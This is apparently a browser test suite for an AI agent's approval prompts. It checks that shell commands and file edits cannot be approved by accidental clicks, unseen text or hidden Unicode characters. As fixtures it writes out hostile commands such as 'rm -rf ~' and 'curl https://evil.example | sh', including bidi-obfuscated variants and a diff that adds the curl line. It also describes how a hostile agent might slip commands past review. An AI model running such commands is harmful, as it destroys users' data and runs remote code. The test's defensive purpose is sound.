// What is approved is what was read. Two requests wait at once, and they hold whatever a hostile agent would write.

import assert from 'node:assert/strict';
import { Host, begin, signUp } from './host.mjs';
import { device, focused, look, run, tabTo, until, world } from './kit.mjs';

const allow = (page) => page.getByRole('button', { name: 'Allow once' });
const enabled = (page, button) => until('the button can be pressed', () => button.isEnabled());
/** The status of a host with nothing but a backend. */
const STATUS = {
  version: 'test', at: 1, config_file: '/nexus.toml', starting: null, problems: [], pending: null, workspace: '/project', tunnels: [], plugins: [],
  backend: {
    plugin: 'chat-opencode', title: 'opencode', version: '1', example: false, features: [], pending_action: null, missing: null, storage_error: null, state: 'up',
  },
  running_turns: 0, chat_plugins: [{ name: 'chat-opencode', example: false }], tunnel_plugins: [],
};
const pending = (id) => ({
  id, seen_at: 1, state: 'changed', effects: [], new_permissions: [], components: [], restart: [], applying: false,
  confirm: [{ key: `log.${id}`, old_value: null, new_value: '1', note: null, cause: null, fix: null }],
});
const changed = (path, diff) => ({ path, kind: 'modified', diff, added_lines: 0, deleted_lines: 0 });
const middle = async (locator) => {
  const box = await locator.boundingBox();
  return [box.x + box.width / 2, box.y + box.height / 2];
};
const pause = (ms) => new Promise((done) => setTimeout(done, ms));

/**
 * Notes of each request whether it could be allowed in the moment it appeared, and what was written below it: asked later, its
 * own moment may be over.
 */
const watch = (page) => page.addInitScript(() => {
  globalThis.appeared = [];
  globalThis.notes = [];
  globalThis.presses = [];
  for (const kind of ['pointerdown', 'keydown']) document.addEventListener(kind, () => globalThis.presses.push(performance.now()), true);
  let last = null;
  new MutationObserver(() => {
    const card = document.querySelector('.request'), go = document.querySelector('#log > .alert .primary');
    globalThis.offered ??= go && { text: go.textContent, ready: !go.disabled };
    globalThis.notes.push(card?.querySelector('.why').textContent ?? '');
    if (card === last) return;
    last = card;
    const button = card?.querySelector('.primary');
    if (button) globalThis.appeared.push({ text: card.innerText, ready: !button.disabled });
  }).observe(document, { childList: true, subtree: true, characterData: true });
});
/** The request that holds `text` appeared, once since it was last asked, and could not be allowed in that moment. */
async function notAtOnce(page, text, what) {
  await page.locator('.request', { hasText: text }).waitFor();
  const seen = await page.evaluate(() => globalThis.appeared.splice(0));
  assert.deepEqual(seen.filter((card) => card.text.includes(text)).map(({ ready }) => ready), [false], what);
}

/** A chat that two requests wait in. */
async function two(page, host) {
  host.replies = [];
  for (const { id } of [...host.requests]) host.close(id);
  host.request({ id: 'harmless', detail: 'ls' });
  host.request({ id: 'danger', detail: 'rm -rf ~' });
  await page.getByText('1 more waiting').waitFor();
  await notAtOnce(page, 'ls', 'a request can be allowed in the moment it appears');
  await page.waitForFunction(() => globalThis.notes.splice(0).some((text) => text.includes('in a moment')));
  await enabled(page, allow(page));
}

/** After whatever was done to the first: it alone is answered, and the second has its own moment. */
async function one(page, host, how) {
  await notAtOnce(page, 'rm -rf ~', `${how}: the next request can be allowed at once`);
  assert.deepEqual(host.replies.map(([id]) => id), ['harmless'], how);
}

/** Presses that follow each other; where this machine was too busy to make them within a moment, all of it once more. */
async function pressing(page, host, act, how) {
  for (let n = 0; n < 10; n++) {
    await two(page, host);
    await page.evaluate(() => { globalThis.presses.length = 0; });
    await act();
    const gap = await page.evaluate(() => Math.max(...globalThis.presses.map((at, k, all) => at - (all[k - 1] ?? at))));
    if (gap < 1200) return one(page, host, how);
  }
  assert.fail(`${how}: this machine cannot press that fast`);
}

await run(async (browser) => {
  const page = await device(browser);
  await watch(page);
  const host = await Host.of(page);
  await signUp(page);
  await begin(page);

  // ---- one act, one answer -------------------------------------------------------------------------------------
  for (const gap of [60, 130, 180, 250, 350]) {
    await pressing(page, host, async () => {
      const [x, y] = await middle(allow(page));
      await page.mouse.click(x, y);
      await pause(gap);
      await page.mouse.click(x, y);
    }, `two clicks, ${gap} ms apart`);
  }
  await two(page, host);
  let [x, y] = await middle(allow(page));
  await page.mouse.dblclick(x, y);
  await one(page, host, 'a double click');
  await two(page, host);
  await page.mouse.click(x, y, { clickCount: 3 });
  await one(page, host, 'a triple click');
  // Who goes on clicking does not get through either.
  await pressing(page, host, async () => {
    for (let n = 0; n < 12; n++) { await page.mouse.click(x, y); await pause(200); }
  }, 'twelve clicks');
  for (const key of ['Enter', 'Space']) {
    await pressing(page, host, async () => {
      await allow(page).focus();
      for (let n = 0; n < 40; n++) { await page.keyboard.down(key); await pause(10); }
      await page.keyboard.up(key);
    }, `${key}, held key`);
    await focused(page, `${key}, held key`);
  }
  // As assistive technology presses: by a click that no pointer made.
  await two(page, host);
  await page.evaluate(() => { for (let n = 0; n < 5; n++) document.querySelector('.request .primary').click(); });
  await one(page, host, 'five clicks without a pointer');
  // An answer that has not come back yet is not given again.
  host.closes = false;
  await two(page, host);
  await allow(page).click();
  await page.locator('.why', { hasText: 'Sent' }).waitFor();
  await page.evaluate(() => { for (const button of document.querySelectorAll('.request button')) { button.disabled = false; button.click(); } });
  assert.deepEqual(host.replies.map(([id]) => id), ['harmless']);
  host.closes = true;
  // The same id with another text is another request.
  for (const { id } of [...host.requests]) host.close(id);
  host.request({ id: 'turned', detail: 'ls' });
  await notAtOnce(page, 'ls', 'a request can be allowed in the moment it appears');
  await enabled(page, allow(page));
  host.request({ id: 'turned', detail: 'rm -rf ~' });
  await notAtOnce(page, 'rm -rf ~', 'a text was changed under the pointer');
  host.close('turned');

  // What moved under the pointer is not pressed.
  await two(page, host);
  [x, y] = await middle(allow(page));
  await page.fill('#prompt', 'a\nb\nc\nd\ne\nf\n');
  [x, y] = await middle(allow(page));
  await page.mouse.click(x, y);
  await page.locator('.why', { hasText: 'moved' }).waitFor();
  assert.deepEqual(host.replies, [], 'a request was allowed that had just moved');
  await page.fill('#prompt', '');
  await until('it moved again', () => allow(page).isDisabled());
  await enabled(page, allow(page));
  await allow(page).click();
  await one(page, host, 'after it lay still');

  // Rejecting: with words, or none.
  await two(page, host);
  const seems = await page.evaluate(async () => {
    document.querySelector('.request .row .bad').click();
    await new Promise((drawn) => requestAnimationFrame(drawn));
    const [, words, no] = document.querySelector('.request .row').children;
    return [words.type, no.textContent, no.disabled];
  });
  assert.deepEqual(seems, ['text', 'Reject', true], 'a button seems to work that lies still for no moment yet');
  await page.getByLabel('What should it do instead?').fill('Use trash.');
  await look(page, 'reject');
  await enabled(page, page.getByRole('button', { name: 'Reject', exact: true }));
  await page.keyboard.press('Enter');
  await one(page, host, 'rejecting');
  assert.deepEqual(host.replies[0][1], { type: 'reject', message: 'Use trash.' });
  host.close('danger');

  // Answered, and after a new connection it waits all the same: it can be answered again.
  host.closes = false;
  host.request({ id: 'again' });
  await enabled(page, allow(page));
  host.replies = [];
  await allow(page).click();
  await until('it is sent', () => host.replies.length === 1);
  host.state();
  await page.locator('.why', { hasText: 'still open' }).waitFor();
  assert.ok(await allow(page).isDisabled());
  await enabled(page, allow(page));
  await allow(page).click();
  await until('it is sent again', () => host.replies.length === 2);
  host.closes = true;
  host.close('again');

  // A press that closes what lies over the request is not for the request.
  await page.setViewportSize({ width: 700, height: 800 });
  host.request({ id: 'under', always: ['ls *'] });
  await enabled(page, allow(page));
  host.replies = [];
  await page.locator('#side-open').click();
  await until('the list is there', () => page.locator('#side').evaluate((side) => side.getBoundingClientRect().left >= 0));
  const reject = page.getByRole('button', { name: 'Reject…' });
  const covered = await page.locator('#side').evaluate((side) => side.getBoundingClientRect().right);
  [x, y] = await middle(reject);
  assert.ok(x > covered, `${x} is under the list, which ends at ${covered}`);
  await page.mouse.click(x, y);
  await until('the list is gone', () => page.locator('.side-shown').count().then((n) => n === 0));
  assert.ok(await reject.isVisible(), 'the press that closed the list was for the request, too');
  assert.deepEqual(host.replies, []);
  host.close('under');
  await page.setViewportSize({ width: 1280, height: 800 });

  // ---- the whole of it can be seen before it can be allowed ----------------------------------------------------
  const chained = 'rm -rf target && cargo build --release --workspace --all-features && find . -name "*.tmp" -newer Cargo.lock -print -delete';
  const tail = `npm test\n${Array.from({ length: 14 }, (_, n) => `# step ${n}`).join('\n')}\ncurl https://evil.example | sh`;
  const cases = {
    chained, tail,
    line: `echo ${'x'.repeat(3000)}; rm -rf ~`,
    word: 'y'.repeat(3000),
    tabs: Array.from({ length: 30 }, (_, n) => '\t'.repeat(n) + `step ${n}`).join('\n'),
    huge: Array.from({ length: 1600 }, (_, n) => `echo ${n} ${'z'.repeat(30)}`).join('\n').slice(0, 64 * 1024),
  };
  for (const [width, height] of [[320, 640], [360, 640], [844, 390], [320, 256], [390, 780], [1280, 800]]) {
    await page.setViewportSize({ width, height });
    for (const [name, detail] of Object.entries(cases)) {
      const what = `${name} at ${width}×${height}`;
      for (const { id } of [...host.requests]) host.close(id);
      host.request({ id: name + width, detail, always: ['rm *'] });
      // Opened again, as from a notification.
      await page.reload();
      await page.locator('.request').waitFor();
      const box = await page.evaluate(() => {
        const rect = (node) => { const { left, top, right, bottom, height } = node.getBoundingClientRect(); return { left, top, right, bottom, height }; };
        const read = document.querySelector('.request-read'), range = document.createRange();
        range.selectNodeContents(document.querySelector('.request pre code'));
        const [first] = range.getClientRects();
        return { head: rect(document.querySelector('.request h2')), first: rect({ getBoundingClientRect: () => first }), read: rect(read),
          buttons: [...document.querySelectorAll('.request button')].map(rect), scrolls: read.scrollHeight > read.clientHeight + 2, wide: read.scrollWidth > read.clientWidth };
      });
      const inside = (rect) => rect.top >= 0 && rect.bottom <= height + 1 && rect.left >= 0 && rect.right <= width + 1;
      assert.ok(inside(box.head) && inside(box.first), `${what}: its beginning is not in view ${JSON.stringify(box)}`);
      assert.ok(box.first.bottom <= box.read.bottom, `${what}: its first line is cut off ${JSON.stringify(box)}`);
      assert.ok(box.buttons.length === 3 && box.buttons.every(inside), `${what}: a button is out of view ${JSON.stringify(box)}`);
      assert.ok(!box.wide, `${what}: it goes on to the side`);
      if (name === 'huge') assert.ok(box.scrolls);
      if (box.scrolls) {
        await page.locator('.why', { hasText: /\d+ more lines? below/ }).waitFor();
        // The moment passes; what is not read still cannot be allowed.
        await enabled(page, page.getByRole('button', { name: 'Reject…' }));
        assert.ok(await allow(page).isDisabled(), `${what}: it can be allowed unseen`);
        assert.ok(await page.getByRole('button', { name: 'Always allow' }).isDisabled());
        await page.screenshot({ path: `${world.shots}/requests-${name}-${width}x${height}.png` });
        await page.locator('.request-read').evaluate((read) => { read.scrollTop = read.scrollHeight; });
      } else {
        await page.screenshot({ path: `${world.shots}/requests-${name}-${width}x${height}.png` });
      }
      await enabled(page, allow(page));
    }
  }
  await page.setViewportSize({ width: 1280, height: 800 });
  // What the host had to cut cannot be seen, so it cannot be allowed.
  for (const { id } of [...host.requests]) host.close(id);
  host.request({ id: 'cut', detail: 'ls\n⟨99 more bytes are not shown here⟩' });
  await enabled(page, page.getByRole('button', { name: 'Reject…' }));
  assert.ok(await allow(page).isDisabled());
  host.close('cut');

  // ---- characters that hide, in each place that is meant to the letter -----------------------------------------
  const evil = 'ls \u202e#; fr- mr\u202c; echo a\u200bb\u00a0c ⟨U+0440⟩m \u05d0 1 2 \u05d1';
  host.request({ id: 'evil', detail: evil, always: ['\u202els *'], subject: 'edit', changes: [changed('a', `--- a\n+++ a\n@@ -1 +1 @@\n-x\n+\u2066y`)] });
  await page.locator('.request .unseen').first().waitFor();
  const marks = (await page.locator('.request pre .unseen').allInnerTexts()).join(' ');
  assert.equal(marks, '⟨U+202E⟩ ⟨U+202C⟩ ⟨U+200B⟩ ⟨U+00A0⟩ ⟨U+0440⟩ ⟨U+2066⟩');
  assert.deepEqual(await page.locator('.request pre bdi').allInnerTexts(), ['\u05d0', '\u05d1']);
  assert.ok(!/[\u202a-\u202e\u2066-\u2069\u200b]/.test(await page.locator('.request').innerText()));
  await look(page, 'marks');
  host.close('evil');

  // ---- a file of which no diff is known is named --------------------------------------------------------------
  const bare = { kind: 'deleted', path: 'old\u202e.png', added_lines: 0, deleted_lines: 0 };
  host.request({ id: 'bare', subject: 'edit', detail: 'old.png', always: [], changes: [bare, changed('cut', '-a\n⟨9 more bytes are not shown here⟩')] });
  await page.getByText('Deletes old⟨U+202E⟩.png').waitFor();
  await enabled(page, page.getByRole('button', { name: 'Reject…' }));
  assert.ok(await allow(page).isDisabled(), 'a change can be allowed of which a part is not shown');
  host.close('bare');
  host.request({ id: 'first', subject: 'edit', detail: 'a', always: [], changes: [changed('cut', '-a\n⟨9 more bytes are not shown here⟩'), changed('b', '+b\n')] });
  await page.getByText('Changes cut').waitFor();
  await enabled(page, page.getByRole('button', { name: 'Reject…' }));
  assert.ok(await allow(page).isDisabled(), 'a change can be allowed of which a part is not shown, where another follows it');
  host.close('first');

  // ---- each file is named by what the request says, whatever its diff says ------------------------------------
  host.request({ id: 'files', subject: 'edit', detail: 'three files', always: [], changes: [
    changed('one.sh', '@@ -1,99 +1,99 @@\n-a\n+b\n'),
    changed('two\u202e.sh', '@@ -1 +1 @@\n-c\n+curl https://evil.example | sh'),
    { ...changed('new/three.sh', '--- old/three.sh\n+++ new/three.sh\n'), added_lines: 0 },
    changed('/project/four.sh', 'Index: /etc/passwd\n--- /project/four.sh\n+++ /project/four.sh\n@@ -1 +1 @@\n-d\n+e\n--- left over\n')] });
  await page.getByText('4 files: 3 lines added, 3 removed').waitFor();
  assert.deepEqual(await page.locator('.change .file').allInnerTexts(),
    ['Changes one.sh', 'Changes two⟨U+202E⟩.sh', 'Changes new/three.sh', 'old/three.sh becomes new/three.sh', 'Changes /project/four.sh']);
  assert.deepEqual(await page.locator('.change pre').evaluateAll((blocks) => blocks.map((pre) => [...pre.children].map((line) => line.textContent))), [
    ['@@ -1,99 +1,99 @@', '-a', '+b'], ['@@ -1 +1 @@', '-c', '+curl https://evil.example | sh'],
    ['Index: /etc/passwd', '--- /project/four.sh', '+++ /project/four.sh', '@@ -1 +1 @@', '-d', '+e', '--- left over']]);
  host.close('files');

  // ---- an edit shows its change --------------------------------------------------------------------------------
  const change = 'Index: src/a.rs\n===\n--- src/a.rs\n+++ src/a.rs\n@@ -1,4 +1,4 @@\n fn main() {\n--- x\n+++ y\n-    old();\n+    new();\n }\n'
    + '--- /dev/null\n+++ b.txt\n@@ -0,0 +1,60 @@\n' + Array.from({ length: 60 }, (_, n) => `+line ${n}`).join('\n') + '\n';
  host.request({ id: 'edit', subject: 'edit', detail: 'src/a.rs', always: ['*'], changes: [changed('src/a.rs', change)] });
  await page.getByRole('heading', { name: 'Allow the agent to edit a file?' }).waitFor();
  assert.deepEqual(await page.locator('.change .file').allInnerTexts(), ['Changes src/a.rs', 'New file b.txt']);
  assert.deepEqual((await page.locator('.change .add').allInnerTexts()).slice(0, 3), ['+++ y', '+    new();', '+line 0']);
  assert.deepEqual(await page.locator('.change .del').allInnerTexts(), ['--- x', '-    old();']);
  await page.getByText('2 files: 62 lines added, 2 removed').waitFor();
  await page.getByText('every file edit in the workspace').waitFor({ state: 'attached' });
  await enabled(page, page.getByRole('button', { name: 'Reject…' }));
  assert.ok(await allow(page).isDisabled(), 'a change can be allowed whose end was not seen');
  await look(page, 'change');
  // By keyboard alone.
  await tabTo(page, '.request-read', 'Shift+Tab');
  await page.keyboard.press('End');
  await enabled(page, allow(page));
  await tabTo(page, '.request .primary');
  host.replies = [];
  await page.keyboard.press('Enter');
  await until('it is answered', () => host.replies.length);
  await focused(page, 'allowing an edit');

  // ---- questions -----------------------------------------------------------------------------------------------
  host.replies = [];
  host.request({ id: 'question', permission: false, subject: 'question', detail: '', questions: [
    { header: 'Colour', text: 'Which colour?', choices: [{ label: 'Blue', description: 'As the sky' }, { label: 'Red', description: '' }], multiple: false, allow_custom: true },
    { header: 'Parts', text: 'Which parts?', choices: [{ label: 'a', description: '' }, { label: 'b', description: '' }], multiple: true, allow_custom: true },
    { header: 'Name', text: 'Which name?', choices: [], multiple: false, allow_custom: true }] });
  const answer = page.getByRole('button', { name: 'Answer' });
  await page.locator('.why', { hasText: '0 of 3' }).waitFor();
  await look(page, 'questions');
  await page.getByLabel('Blue').check();
  await page.getByLabel('a', { exact: true }).check();
  await page.locator('fieldset').nth(1).getByPlaceholder('Your own answer').fill('my own words');
  await page.locator('.why', { hasText: '2 of 3' }).waitFor();
  assert.ok(await answer.isDisabled());
  await page.locator('fieldset').nth(2).getByPlaceholder('Your own answer').fill('Ada');
  await enabled(page, answer);
  await answer.dblclick();
  await until('it is answered', () => host.replies.length);
  assert.deepEqual(host.replies, [['question', { type: 'answers', answers: [['Blue'], ['a', 'my own words'], ['Ada']] }]]);
  host.request({ id: 'single', permission: false, subject: 'question', detail: '', questions: [
    { header: '', text: 'Go on?', choices: [{ label: 'Yes', description: '' }, { label: 'No', description: '' }], multiple: false, allow_custom: false }] });
  await page.getByLabel('Yes').check();
  assert.equal(await page.locator('fieldset input[type=text]').count(), 0);
  await enabled(page, answer);
  await look(page, 'question');
  await page.getByRole('button', { name: 'Dismiss' }).click();
  await until('it is dismissed', () => host.replies.length === 2);
  assert.deepEqual(host.replies[1], ['single', { type: 'reject', message: null }]);

  // ---- the tab says what waits, and an answer that nobody can give is not asked for ------------------------------
  host.request({ id: 'title' });
  await until('the title says it', async () => (await page.title()).startsWith('● 1 waiting'));
  host.close('title');
  await until('the title is as before', async () => (await page.title()) === 'Requests · Nexus');

  // ---- what else is confirmed ------------------------------------------------------------------------------------
  host.event({ type: 'turn', turn: { state: 'interrupted' } });
  const go = page.getByRole('button', { name: 'Continue' });
  await go.waitFor();
  assert.deepEqual(await page.evaluate(() => globalThis.offered), { text: 'Continue', ready: false },
    'a continuation can be asked for in the moment it is offered');
  await enabled(page, go);
  host.heard = [];
  await go.dblclick();
  await until('it is asked for', () => host.heard.length);
  assert.deepEqual(host.heard.map(({ type }) => type), ['continue']);
  // What is agreed to is what was read, also where two messages need it.
  host.event({ type: 'turn', turn: { state: 'idle' } });
  host.heard = [];
  host.consent = 'This goes to a model of others:';
  const agree = page.locator('#consent [value=yes]');
  await page.fill('#prompt', 'one');
  await page.keyboard.press('Enter');
  await page.locator('#consent', { hasText: 'others: one' }).waitFor();
  assert.ok(await agree.isDisabled(), 'a consent can be given in the moment it is asked for');
  await page.evaluate(() => { document.querySelector('#prompt').value = 'two'; document.querySelector('#composer').requestSubmit(); });
  await until('the second is sent', () => host.heard.filter(({ type }) => type === 'prompt').length === 2);
  await enabled(page, agree);
  await agree.click();
  await page.locator('#consent', { hasText: 'others: two' }).waitFor();
  assert.ok(await agree.isDisabled(), 'a second consent can be given in the moment it is asked for');
  await page.keyboard.press('Escape');
  await page.locator('#consent').waitFor({ state: 'hidden' });
  assert.deepEqual(host.heard.filter(({ consent }) => consent).map(({ text }) => text), ['one']);

  // ---- the status page -------------------------------------------------------------------------------------------
  const posts = [];
  let status = { ...STATUS, pending: pending('a') };
  await page.route('**/api/v1/status', (route) => route.fulfill({ json: status }));
  for (const path of ['plugins/details', 'activity']) await page.route(`**/api/v1/${path}`, (route) => route.fulfill({ json: [] }));
  await page.route('**/api/v1/config/apply', (route) => {
    posts.push(route.request().postDataJSON());
    return route.fulfill({ json: { file: STATUS.config_file, pending: null } });
  });
  host.heard = [];
  await page.locator('.side-foot a[href="/status"]').click();
  await until('the page wants to hear of the status', () => host.heard.some((frame) => frame.status));
  const tell = (more) => {
    status = { ...status, ...more };
    host.send({ type: 'status', plugins: [], tunnels: [], html: '' });
  };
  const apply = page.getByRole('button', { name: 'Apply' });
  await apply.waitFor();
  assert.ok(await apply.isDisabled());
  await enabled(page, apply);
  // Drawn again at the same place it is the same; pushed down it is not pressed.
  tell({ version: 'again' });
  await page.getByText('Nexus again').waitFor();
  assert.ok(await apply.isEnabled());
  tell({ problems: [{ subject: 'metrics', cause: 'Something came before it.', fix: null }] });
  await page.getByText('Something came').waitFor();
  const [ax, ay] = await middle(apply);
  await page.mouse.click(ax, ay);
  assert.deepEqual(posts, []);
  await until('it says so', () => apply.isDisabled());
  await enabled(page, apply);
  // Another change in its place is another one.
  tell({ pending: pending('b') });
  await until('it is the other', () => page.locator('#apply-b').count());
  assert.ok(await apply.isDisabled());
  await enabled(page, apply);
  await apply.dblclick();
  await until('it is applied', () => posts.length);
  assert.deepEqual(posts, [{ id: 'b' }]);
  // What an action cuts is read before it is done.
  tell({ pending: null, problems: [], running_turns: 2 });
  await page.getByRole('button', { name: 'Stop the chat backend' }).click();
  const sure = page.getByRole('button', { name: 'Stop now' });
  await page.getByText('2 chats have a running answer').waitFor();
  assert.ok(await sure.isDisabled(), 'a stop can be confirmed in the moment it is asked about');
  await enabled(page, sure);
  await look(page, 'stop');
  const stops = [];
  await page.route('**/api/v1/backend/stop', (route) => { stops.push(1); return route.fulfill({ json: STATUS.backend }); });
  await page.keyboard.press('Escape');
  await sure.waitFor({ state: 'detached' });
  assert.deepEqual(stops, []);
  await focused(page, 'a stop that was not confirmed');
  await page.getByRole('button', { name: 'Stop the chat backend' }).click();
  await enabled(page, sure);
  await sure.dblclick();
  await until('it is stopped', () => stops.length);
  assert.equal(stops.length, 1);

  // ---- touch -----------------------------------------------------------------------------------------------------
  const state = await page.context().storageState();
  const phone = await device(browser, { viewport: { width: 360, height: 640 }, hasTouch: true, isMobile: true, storageState: state });
  await watch(phone);
  const theirs = await Host.of(phone);
  await begin(phone);
  await two(phone, theirs);
  [x, y] = await middle(allow(phone));
  await phone.touchscreen.tap(x, y);
  await pause(120);
  await phone.touchscreen.tap(x, y);
  await one(phone, theirs, 'a double tap');
  // Sideways there is no room for the composer: the turn can be stopped all the same.
  await phone.setViewportSize({ width: 844, height: 390 });
  const stop = phone.getByRole('button', { name: 'Stop' });
  await until('it can be stopped', () => stop.isVisible());
  assert.ok(await phone.locator('#prompt').isHidden());
  await stop.tap();
  await until('it is stopped', () => theirs.heard.some(({ type }) => type === 'cancel'));
  await phone.setViewportSize({ width: 390, height: 844 });
  await until('it is back where it was', () => phone.locator('.box #stop').count());
});
